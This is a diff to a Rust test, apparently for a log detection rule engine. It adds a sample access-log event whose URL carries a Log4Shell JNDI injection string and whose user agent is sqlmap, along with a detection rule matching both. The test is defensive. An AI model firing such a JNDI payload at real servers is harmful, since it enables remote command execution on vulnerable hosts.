@@ -335,8 +335,17 @@ fn keywords_search_the_whole_event() {
             None,
         ),
         event(&[("A", "benign")], Some("nothing")),
+        {
+            // An access log line: its request URL and user agent are columns, not attrs.
+            let mut access = event(&[("access.protocol", "HTTP/1.1")], None);
+            access.url = Some(Cow::Borrowed(
+                "/search?q=${jndi:ldap://x/Basic/Command/Base64/aWQ=}",
+            ));
+            access.user_agent = Some(Cow::Borrowed("sqlmap/1.8.2"));
+            access
+        },
     ];
-    let cases: [(&str, &[usize]); 2] = [
+    let cases: [(&str, &[usize]); 3] = [
         (
             "keywords:\n  - 'EVILSERVICE'\n  - 'svchost.exe -n evil'\ncondition: keywords",
             &[0, 1],
@@ -344,6 +353,10 @@ fn keywords_search_the_whole_event() {
         (
             "keywords:\n  '|all':\n    - 'OabVirtualDirectory'\n    - ' -ExternalUrl '\ncondition: keywords",
             &[2],
+        ),
+        (
+            "url:\n  - '/Basic/Command/Base64/'\nagent:\n  - 'sqlmap/'\ncondition: url and agent",
+            &[4],
         ),
     ];
     for (detection, expected) in cases {
